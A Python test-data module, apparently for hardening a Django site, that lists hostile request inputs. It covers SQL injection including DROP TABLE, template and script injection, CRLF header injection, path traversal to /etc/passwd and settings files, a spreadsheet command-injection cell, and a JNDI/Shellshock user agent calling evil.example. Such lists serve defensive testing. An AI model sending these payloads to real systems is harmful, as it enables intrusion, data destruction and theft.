"""What a hostile client sends: values, whole query strings, paths, headers, methods."""

from urllib.parse import quote

# Every parameter that some page reads, and one that none does
PARAMETERS = (
    *("region", "sector", "kind", "status", "event", "from", "to", "q", "sort", "page", "view"),
    *("sel", "fragment", "theme", "limit", "unit", "format", "url", "maxwidth", "bom", "p", "none"),
)

# Never answered as they are: see `harmless`.
SCRIPT = "\"'><img src=x onerror=alert(1)>"
SUM = "54444439"

VALUES = {
    # SQL
    "sql quote": "'",
    "sql or": "' OR '1'='1' --",
    "sql stacked": "'; DROP TABLE places; --",
    "sql union": "1 uNiOn sElEcT null, null --",
    "sql double": '" OR ""="',
    "sql sleep": "1;select pg_sleep(20)",
    "sql wildcards": "%_%_%\\%",
    "sql names": "partnership__summary__regex",
    "regex": "(a+)+$" * 12,
    # templates and pages
    "template sum": "{{7*7777777}}",
    "template tag": "{% debug %}{% load static %}",
    "template settings": "{{ settings.SECRET_KEY }}",
    "format": "{0.__class__.__init__.__globals__} %(x)s %s %n ${7*7777777} #{7*7777777}",
    "script": SCRIPT,
    "script address": "javascript:alert(1)",
    # lines and ends
    "crlf": "a\r\nSet-Cookie: stolen=1\r\n\r\n<h1>",
    "null": "a\x00b",
    "null alone": "\x00",
    "controls": "".join(map(chr, range(1, 32))),
    # Unicode
    "bidi": "\u202egnp.exe\u2066\u2069",
    "wide digits": "\uff12\uff10\uff12\uff14",
    "arabic digits": "٢٠٢٤",
    "superscript": "²⁰",
    "combining": "e" + "\u0301" * 400,
    "expands": "ﷺ" * 90,
    "beyond the plane": "\U0001f600\U0010ffff",
    "no character": "\ufffe\uffff",
    "byte order": "\ufeff\ufeff",
    # numbers
    "huge": "9" * 5000,
    "beyond 64 bits": "9223372036854775808",
    "negative": "-1",
    "zero": "0",
    "exponent": "1e309",
    "not a number": "NaN",
    "fraction": "1.5",
    "underscored": "1_0",
    # shapes
    "nested": "[" * 2000,
    "json": '{"$gt":""}',
    "path": "../../../../etc/passwd",
    "file": "file:///etc/passwd",
    "cell": "=cmd|' /C calc'!A0",
    "long": "a" * 20000,
}

# As they stand after the `?`
QUERIES = {
    "64 KB": "q=" + "a" * 65536,
    "10,000 of one": "&".join(["status=active"] * 10_000),
    "10,000 others": "&".join(f"p{n}={n}" for n in range(10_000)),
    "1,001 empty": "&" * 1001,
    "brackets": "q" + "[a]" * 1000 + "=1",
    "lone": "=&&=;=?&#",
    "not UTF-8": "q=%ff%fe&status=%c3%28",
    "name not UTF-8": "%ff=%fe",
    "overlong": "q=%c0%af%e0%80%af&page=%c0%b1",
    "surrogate": "q=%ed%a0%80&sel=%ed%bf%bf",
    "half an escape": "q=%&page=%2&sel=%zz&%=%",
    "escaped twice": "q=%252e%252e%252f&page=%2531",
    "raw bytes": "q=\xe3\x81\xff",
    "semicolon": "page=1;page=2",
}

# Behind an address that exists, and at the root
TAILS = {
    "up": "../../../../etc/passwd",
    "up escaped": "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "up escaped twice": "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "up with backslashes": "..%5c..%5c..%5cwindows%5cwin.ini",
    "up overlong": "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "up doubled": "....//....//etc/passwd",
    "absolute": "/etc/passwd",
    "settings": "..%2fatlas%2fsettings.py",
    "null": "%00",
    "null and suffix": "..%2f..%2fvar%2fsecret_key%00.csv",
    "crlf": "%0d%0aSet-Cookie:%20stolen=1",
    "not UTF-8": "%ff%fe",
    "surrogate": "%ed%a0%80",
    "bidi": quote("\u202e"),
    "script": quote(SCRIPT),
    "template": quote("{{7*7777777}}"),
    "sql": quote("' OR '1'='1' --"),
    "long": "a" * 8000,
    "many slashes": "/" * 200,
    "semicolon": ";jsessionid=1",
    "percent": "%25%25%25n",
}

HOSTS = (
    *("evil.example", "evil.example:80", "testserver@evil.example", "testserver:99999999999"),
    *("testserver:port", "testserver:80:80", "testserver\r\nX: y", "testserver/../x", "a" * 5000),
    *(
        "test\x00server",
        "测试.example",
        "[::1",
        "127.0.0.1.evil.example",
        "<script>",
        " ",
        ".",
        "...",
    ),
)

HEADERS = {
    "accept nonsense": {"accept": "))((;q=&;,,,/*/;q=NaN"},
    "accept many": {"accept": ",".join(f"a/b{n};q=0.{n}" for n in range(1500))},
    "accept null": {"accept": "text/\x00html"},
    "language nonsense": {"accept-language": "xx-\x00;q=9e9,../../etc/passwd,*;q=-1"},
    "language many": {"accept-language": ",".join(["it;q=0.1"] * 900)},
    "language long": {"accept-language": "a" * 9000},
    "encoding nonsense": {"accept-encoding": "gzip;q=NaN,br;q=\x00,\xff"},
    "range": {"range": "bytes=0-0,1-1,99999999999999999999-"},
    "range backwards": {"range": "bytes=9-1"},
    "range many": {"range": "bytes=" + ",".join(f"{n}-" for n in range(1000))},
    "etag nonsense": {"if-none-match": '"\xff\x00, W/"", **'},
    "etag many": {"if-none-match": ",".join(f'"{n}"' for n in range(1500))},
    "date nonsense": {"if-modified-since": "Thu, 99 Foo 99999 99:99:99 GMT"},
    "date huge": {"if-modified-since": "Thu, 01 Jan 999999999999 00:00:00 GMT"},
    "date before time": {"if-unmodified-since": "Mon, 01 Jan 0000 00:00:00 GMT"},
    "cookies": {"cookie": "sessionid=\x00;csrftoken=" + "a" * 8000 + ";;=;\xff"},
    "forwarded": {
        "x-forwarded-host": "evil.example",
        "x-forwarded-proto": "javascript",
        "x-forwarded-for": "\x00,' OR 1=1",
        "forwarded": "host=evil.example",
    },
    "rewritten": {"x-original-url": "/admin/", "x-rewrite-url": "/admin/"},
    "method overridden": {"x-http-method-override": "DELETE"},
    "request id": {"x-request-id": "a\r\nSet-Cookie: stolen=1"},
    "user agent": {"user-agent": "() { :;}; echo ${jndi:ldap://evil.example/a}{{7*7777777}}\x00"},
    "origin": {"origin": "null", "referer": "\x00javascript:alert(1)"},
    "preflight": {"origin": "https://e.org", "access-control-request-method": "\x00"},
    "requested with": {"x-requested-with": SCRIPT},
}

METHODS = (*("POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "X" * 300),)
BODIES = {
    "a form": (b"q=%00&csrfmiddlewaretoken=x", "application/x-www-form-urlencoded"),
    "broken JSON": (b"[" * 5000, "application/json"),
    "broken parts": (b"--x\r\nContent-Disposition: \xff", "multipart/form-data; boundary=x"),
    "no boundary": (b"x", "multipart/form-data; boundary=" + "\u00e9" * 90),
    "entities": (b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>', "text/xml"),
}
